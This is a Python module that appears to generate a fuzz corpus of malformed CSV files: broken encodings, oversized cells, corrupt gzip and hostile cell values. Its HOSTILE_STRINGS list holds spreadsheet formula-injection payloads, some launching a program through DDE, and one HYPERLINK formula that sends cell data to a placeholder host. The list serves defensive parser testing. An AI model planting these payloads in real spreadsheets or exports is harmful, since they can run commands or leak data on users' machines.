"""Table mutations for the fuzz corpus: hostile cells, sizes, junk, encodings and structure.

Formula cells (``=cmd|' /C calc'!A0`` ...), very long lines and cells, binary junk and NUL
bytes, UTF-16 (LE/BE, with and without BOM), Latin-1 and CP1252, invalid UTF-8, duplicated
header rows and duplicated column names, missing label columns, missing feature columns,
shuffled columns, a cut in the middle of a row or a quoted cell, unbalanced quotes, other
separators, CR-only line endings, Inf/NaN/huge numbers, truncated and corrupt gzip.
"""

from __future__ import annotations

import csv
import gzip
import io
import random

#: Cell values that attack spreadsheets, HTML or terminals: formulas (the first six), markup
#: (the next three), then control characters, line breaks, quotes, bidi override, a long cell.
HOSTILE_STRINGS = (
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?"&A1,"x")',
    "\t=1+1",
    "<b>x</b>",
    "<font size=80>big</font>",
    "&amp;&lt;&#0;",
    "a\x00b\x01c\x1bd\x7f",
    "line\nbreak\r\nhere",
    '"quoted","cells"',
    "\u202etxt.exe",
    "A" * 5000,
)


def table_mutations(
    text: str, rng: random.Random, *, has_header: bool = True
) -> list[tuple[str, str, bytes]]:
    """Every table mutation of one CSV text: (mutation, extension, bytes)."""
    out: list[tuple[str, str, bytes]] = []
    lines = text.splitlines()
    head, body = (lines[:1], lines[1:]) if has_header else ([], lines)
    if not body:
        return [("unchanged", "csv", text.encode())]
    sep = ","

    def u8(t: str) -> bytes:
        return t.encode("utf-8", errors="surrogateescape")

    def rows() -> list[list[str]]:
        return [next(csv.reader([line])) for line in body]

    def join(rs: list[list[str]]) -> list[str]:
        buf = io.StringIO()
        csv.writer(buf, lineterminator="\n").writerows(rs)
        return buf.getvalue().splitlines()

    def doc(ls: list[str]) -> str:
        return "\n".join(ls) + "\n"

    # hostile cells in every column that is not a number, and in random numeric cells
    rs = rows()
    groups = {
        "formulas": HOSTILE_STRINGS[:6],
        "markup": HOSTILE_STRINGS[6:9],
        "control-and-long": HOSTILE_STRINGS[9:],
    }
    for group, strings in groups.items():
        rs2 = [list(r) for r in rs]
        for k, r in enumerate(rs2[:: max(1, len(rs2) // 20)]):
            j = rng.randrange(len(r))
            r[j] = strings[k % len(strings)]
        out.append((f"hostile-cells-{group}", "csv", u8(doc(head + join(rs2)))))
    rs2 = [list(r) for r in rs]
    for r in rs2:
        for j in range(len(r)):
            if not _numberish(r[j]):
                r[j] = rng.choice(HOSTILE_STRINGS[:6])
    out.append(("formula-in-every-text-cell", "csv", u8(doc(head + join(rs2)))))

    # sizes
    out.append(("one-cell-2mb", "csv", u8(doc(head + ["x" * 2_000_000 + body[0]] + body[1:]))))
    out.append(
        (
            "extra-2mb-field",
            "csv",
            u8(doc(head + [body[0].replace(sep, sep + "x" * 2_000_000 + sep, 1)] + body[1:])),
        )
    )
    out.append(("line-100k-fields", "csv", u8(doc(head + [sep.join(["1"] * 100_000)] + body))))
    out.append(
        (
            "header-100k-columns",
            "csv",
            u8(doc([sep.join(f"c{i}" for i in range(100_000))] + body[:3])),
        )
    )
    out.append(("rows-repeated-20x", "csv", u8(doc(head + body * 20))))

    # junk
    junk = rng.randbytes(300)
    b = u8(doc(head + body))
    mid = len(b) // 2
    out.append(("binary-junk-middle", "csv", b[:mid] + junk + b[mid:]))
    out.append(("nul-bytes", "csv", b.replace(b",", b",\x00", 5)))
    out.append(("binary-junk-appended", "csv", b + junk))
    out.append(("invalid-utf8", "csv", b[:mid] + b"\xff\xfe\xc3\x28\xa0\xa1" + b[mid:]))

    # encodings
    plain = doc(head + body)
    accented = plain.replace("a", "\u00e4", 3).replace("e", "\u00e9", 3)
    out.append(("utf16-le-bom", "csv", b"\xff\xfe" + plain.encode("utf-16-le")))
    out.append(("utf16-be-bom", "csv", b"\xfe\xff" + plain.encode("utf-16-be")))
    out.append(("utf16-le-no-bom", "csv", plain.encode("utf-16-le")))
    out.append(("utf32", "csv", plain.encode("utf-32")))
    out.append(("latin1", "csv", accented.encode("latin-1", errors="replace")))
    out.append(("cp1252", "csv", (accented + "\u20ac\n").encode("cp1252", errors="replace")))
    out.append(("utf8-bom", "csv", b"\xef\xbb\xbf" + u8(plain)))

    # structure
    if head:
        out.append(
            (
                "header-repeated-mid-file",
                "csv",
                u8(doc(head + body[: len(body) // 2] + head + body[len(body) // 2 :])),
            )
        )
        names = next(csv.reader(head))
        dup = list(names)
        if len(dup) > 2:
            dup[1] = dup[0]
            dup[-1] = dup[-2]
        out.append(("duplicate-column-names", "csv", u8(doc(join([dup]) + body))))
        label_cols = [
            i
            for i, c in enumerate(names)
            if c.strip().lower() in ("label", "attack_cat", "type", "class")
        ]
        if label_cols:
            keep = [i for i in range(len(names)) if i not in label_cols]
            out.append(
                (
                    "no-label-columns",
                    "csv",
                    u8(
                        doc(
                            join(
                                [[names[i] for i in keep]]
                                + [[r[i] for i in keep if i < len(r)] for r in rs]
                            )
                        )
                    ),
                )
            )
        keep = list(range(len(names)))
        drop = rng.sample(keep, max(1, len(keep) // 5))
        keep = [i for i in keep if i not in drop]
        out.append(
            (
                "missing-feature-columns",
                "csv",
                u8(
                    doc(
                        join(
                            [[names[i] for i in keep]]
                            + [[r[i] for i in keep if i < len(r)] for r in rs]
                        )
                    )
                ),
            )
        )
        perm = list(range(len(names)))
        rng.shuffle(perm)
        out.append(
            (
                "columns-shuffled",
                "csv",
                u8(
                    doc(
                        join(
                            [[names[i] for i in perm]]
                            + [[r[i] if i < len(r) else "" for i in perm] for r in rs]
                        )
                    )
                ),
            )
        )
        out.append(
            ("extra-column", "csv", u8(doc(join([names + ["extra"]] + [r + ["x"] for r in rs]))))
        )
        out.append(("header-only", "csv", u8(doc(head))))
        out.append(
            (
                "header-with-spaces-and-case",
                "csv",
                u8(doc(join([[f"  {c.upper()} " for c in names]]) + body)),
            )
        )
    out.append(("no-header", "csv", u8(doc(body))))
    out.append(
        ("short-rows", "csv", u8(doc(head + [line.split(sep)[0] for line in body[:5]] + body[5:])))
    )
    out.append(("long-rows", "csv", u8(doc(head + [line + ",1,2,3" for line in body]))))
    out.append(("cut-mid-row", "csv", u8(doc(head + body))[: -max(2, len(body[-1]) // 2)]))
    out.append(("unbalanced-quote", "csv", u8(doc(head + ['"' + body[0]] + body[1:]))))
    out.append(
        (
            "cut-inside-quoted-cell",
            "csv",
            u8(doc(head + body[:-1]) + '"open quoted cell, never closed'),
        )
    )
    out.append(
        ("semicolon-separated", "csv", u8(doc([ln.replace(",", ";") for ln in head + body])))
    )
    out.append(("tab-separated", "csv", u8(doc([ln.replace(",", "\t") for ln in head + body]))))
    out.append(("cr-line-endings", "csv", u8("\r".join(head + body) + "\r")))
    out.append(("crlf-line-endings", "csv", u8("\r\n".join(head + body) + "\r\n")))
    out.append(("blank-lines", "csv", u8(doc(head + [""] + [x for ln in body for x in (ln, "")]))))
    rs2 = [list(r) for r in rs]
    specials = ("inf", "-inf", "Infinity", "nan", "NaN", "1e999", "-1e999", "1e308", "0x1F",
                "1,000", "99999999999999999999999999", "-0", "", "  ", "None", "null")  # fmt: skip
    for r in rs2:
        for j in range(len(r)):
            if _numberish(r[j]) and rng.random() < 0.3:
                r[j] = rng.choice(specials)
    out.append(("odd-numbers", "csv", u8(doc(head + join(rs2)))))

    # compression
    gz = gzip.compress(u8(plain), mtime=0)
    out.append(("gzip", "csv.gz", gz))
    out.append(("gzip-truncated", "csv.gz", gz[: len(gz) // 2]))
    bad = bytearray(gz)
    for _ in range(10):
        bad[rng.randrange(10, len(bad) - 8)] ^= 0xFF
    out.append(("gzip-corrupt", "csv.gz", bytes(bad)))
    out.append(
        ("gzip-of-utf16", "csv.gz", gzip.compress(b"\xff\xfe" + plain.encode("utf-16-le"), mtime=0))
    )
    return out


def _numberish(text: str) -> bool:
    """True when ``float()`` reads ``text``."""
    try:
        float(text)
    except ValueError:
        return False
    return True
